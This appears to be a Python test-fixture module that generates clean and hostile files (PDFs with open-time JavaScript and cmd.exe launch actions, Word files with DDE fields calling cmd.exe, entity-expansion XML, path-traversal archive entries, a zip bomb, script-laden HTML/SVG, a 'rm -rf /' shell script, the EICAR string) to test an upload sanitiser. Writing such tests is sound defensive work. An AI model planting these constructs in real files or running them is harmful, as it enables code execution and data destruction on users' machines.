"""Honest and hostile files, made on the spot."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    EncodedStreamObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

SECRET = "Zqxmakersname"
"""What files say of their maker; none of it may be kept."""
SCRIPT = b"<script>alert(1)</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
GPS, MAKER, ARTIST, ORIENTATION = 0x8825, 0x010F, 0x013B, 0x0112
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: Any) -> bytes:
    """A picture that tells where it was taken, by whom, and with what."""
    image = Image.new(mode, size, options.pop("colour", 90))
    exif = Image.Exif()
    exif[MAKER], exif[ARTIST] = SECRET, SECRET
    exif[ORIENTATION] = options.pop("orientation", 1)
    exif.get_ifd(GPS).update({1: "N", 2: (31.0, 32.0, 58.0), 3: "E", 4: (74.0, 20.0, 37.0)})
    content = BytesIO()
    image.save(content, kind, exif=exif, **options)
    return content.getvalue()


def moving(kind: str) -> bytes:
    """A picture of two frames."""
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    content = BytesIO()
    frames[0].save(content, kind, save_all=True, append_images=frames[1:], duration=100)
    return content.getvalue()


def flood(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG of a few bytes that says it is huge."""
    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(bytes(1000)))
        + _chunk(b"IEND", b"")
    )


def pdf(*, root: dict[str, Any] | None = None, page: dict[str, Any] | None = None, **options: Any) -> bytes:
    """A PDF of two pages that says who made it; `root` and `page` put more into its dictionaries."""
    writer = PdfWriter()
    first = writer.add_blank_page(200, 200)
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": SECRET, "/Producer": SECRET})
    sayings = StreamObject()
    sayings.set_data(f"<x:xmpmeta>{SECRET}</x:xmpmeta>".encode())
    writer.root_object[NameObject("/Metadata")] = writer._add_object(sayings)
    for holder, more in ((writer.root_object, root), (first, page)):
        for key, value in (more or {}).items():
            holder[NameObject(key)] = value
    if options.get("picture"):
        _put_picture(writer, first, options["picture"])
    if password := options.get("password"):
        writer.encrypt(password)
    content = BytesIO()
    writer.write(content)
    return content.getvalue()


def action(kind: str, **more: Any) -> DictionaryObject:
    """Something that a reader does when the file is opened."""
    found = {NameObject("/S"): NameObject(kind)} | {NameObject(f"/{key}"): more[key] for key in more}
    return DictionaryObject(found)


def acting_pdfs() -> dict[str, bytes]:
    """PDFs that run, call out or hold other files."""
    script = action("/JavaScript", JS=TextStringObject("app.alert(1)"))
    named = DictionaryObject({NameObject("/JavaScript"): script})
    note = DictionaryObject({NameObject("/Subtype"): NameObject("/FileAttachment")})
    held = DictionaryObject({NameObject("/EmbeddedFiles"): DictionaryObject()})
    launch = action("/Launch", F=TextStringObject("cmd.exe"))
    form = DictionaryObject({NameObject("/XFA"): TextStringObject("x")})
    send = DictionaryObject({NameObject("/A"): action("/SubmitForm", F=TextStringObject("http://x.test"))})
    return {
        "script when opened": pdf(root={"/OpenAction": script}),
        "named script": pdf(root={"/Names": named}),
        "program when opened": pdf(root={"/OpenAction": launch}),
        "script of a page": pdf(page={"/AA": DictionaryObject({NameObject("/O"): script})}),
        "other file when opened": pdf(root={"/OpenAction": action("/GoToR", F=TextStringObject("x.pdf"))}),
        "form that runs": pdf(root={"/AcroForm": form}),
        "form that sends": pdf(page={"/Annots": ArrayObject([send])}),
        "file within": pdf(root={"/Names": held}),
        "file hung on a page": pdf(page={"/Annots": ArrayObject([note])}),
    }


def office(main: str = "word/document.xml", kind: str = WORD, **parts: Any) -> bytes:
    """A Word or Excel file that says who made it; `parts` are put in or over, None leaves one out."""
    body = f"<w:document {W}><w:body><w:p><w:r><w:t>Honest words</w:t></w:r></w:p></w:body></w:document>"
    usual = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/{main}" ContentType="{kind}"/>'
            '<Override PartName="/docProps/core.xml" ContentType="application/x-core+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
            f'Target="{main}"/><Relationship Id="r2" Type="{RELS}/metadata/core-properties" '
            'Target="docProps/core.xml"/></Relationships>'
        ),
        main: body,
        "docProps/core.xml": f"<coreProperties><creator>{SECRET}</creator></coreProperties>",
        "docProps/thumbnail.jpeg": picture(),
        "word/media/image1.jpeg": picture(),
        "word/media/image2.png": picture("PNG"),
    }
    usual |= parts.pop("more", {})
    return packed({name: content for name, content in usual.items() if content is not None})


def packed(parts: dict[str, Any], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of parts by name."""
    content = BytesIO()
    with zipfile.ZipFile(content, "w", method) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return content.getvalue()


def relation(kind: str, target: str) -> str:
    """The relations of the main part of a Word file: one to something outside."""
    return (
        f'<Relationships xmlns="{RELS}"><Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )


def acting_office() -> dict[str, bytes]:
    """Word and Excel files that run or call out."""
    rels = "word/_rels/document.xml.rels"
    field = (
        f"<w:document {W}><w:r><w:instrText>DDE</w:instrText></w:r>"
        "<w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:document>"
    )
    simple = f'<w:document {W}><w:fldSimple w:instr="INCLUDEPICTURE http://x.test"/></w:document>'
    entities = '<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><x>&c;</x>'
    macros = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return {
        "macro": office(more={"word/vbaProject.bin": b"macro"}),
        "macro type": office(kind=macros),
        "sheet of macros": office(main="xl/workbook.xml", kind=EXCEL, more={"xl/macrosheets/a.xml": "<x/>"}),
        "control": office(more={"word/activeX/activeX1.xml": "<x/>"}),
        "template from outside": office(more={rels: relation("attachedTemplate", "http://x.test/t.dotm")}),
        "picture from outside": office(more={rels: relation("image", "http://x.test/t.png")}),
        "field cut in two": office(more={"word/document.xml": field}),
        "simple field": office(more={"word/document.xml": simple}),
        "entities": office(more={"word/document.xml": entities}),
        "entities in two bytes": office(more={"word/document.xml": entities.encode("utf-16")}),
        "steps out": office(more={"../../outside.xml": "<x/>"}),
        "from the root": office(more={"/etc/x.xml": "<x/>"}),
        "program": office(more={"word/run.exe": b"MZ"}),
        "link to a program": office(
            main="xl/workbook.xml", kind=EXCEL, more={"xl/externalLinks/e.xml": "<a><ddeLink/></a>"}
        ),
    }


def bomb() -> bytes:
    """A Word file of some hundred kilobytes that grows to 200 megabytes."""
    return office(more={"word/big.xml": bytes(200 * 1024 * 1024)})


def of_other_kinds() -> dict[str, bytes]:
    """What is never taken, whatever it is called."""
    return {
        "page": b"<!DOCTYPE html><html>" + SCRIPT + b"</html>",
        "drawing": b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "drawing with a head": b'<?xml version="1.0"?><svg>' + SCRIPT + b"</svg>",
        "script": b"#!/bin/sh\nrm -rf /\n",
        "program of Windows": b"MZ" + bytes(200),
        "program of Linux": b"\x7fELF" + bytes(200),
        "test virus": EICAR,
        "text": "سلام".encode(),
        "rich text": b"{\\rtf1 hello}",
        "old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "archive": packed({"a.txt": "a"}),
        "archive in an archive": packed({"a.zip": packed({"b.zip": packed({"c": "c"})})}),
        "squeezed": b"\x1f\x8b\x08" + bytes(50),
        "rar": b"Rar!\x1a\x07\x00" + bytes(50),
        "seven": b"7z\xbc\xaf\x27\x1c" + bytes(50),
        "gif": moving("GIF"),
        "bitmap": picture_of("BMP"),
        "tiff": picture_of("TIFF"),
        "film": b"\x00\x00\x00\x18ftypmp42" + bytes(50),
        "sound": b"OggS" + bytes(50),
        "java": packed({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe"}),
        "odt": packed({"mimetype": "application/vnd.oasis.opendocument.text"}),
        "presentation": office(
            main="ppt/presentation.xml",
            kind="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        ),
        "late pdf": SCRIPT + pdf(),
        "late jpeg": SCRIPT + picture(),
        "zeros": bytes(5_000),
    }


def picture_of(kind: str) -> bytes:
    """A plain picture of a kind that is not taken."""
    content = BytesIO()
    Image.new("RGB", (10, 10)).save(content, kind)
    return content.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def _put_picture(writer: PdfWriter, page: Any, data: bytes) -> None:
    shown = EncodedStreamObject()
    shown._data = data
    shown.update({
        NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Image"),
        NameObject("/Filter"): ArrayObject([NameObject("/DCTDecode")]),
        NameObject("/Width"): NumberObject(60), NameObject("/Height"): NumberObject(40),
        NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
        NameObject("/BitsPerComponent"): NumberObject(8),
    })  # fmt: skip
    held = DictionaryObject({NameObject("/Im0"): writer._add_object(shown)})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): held})
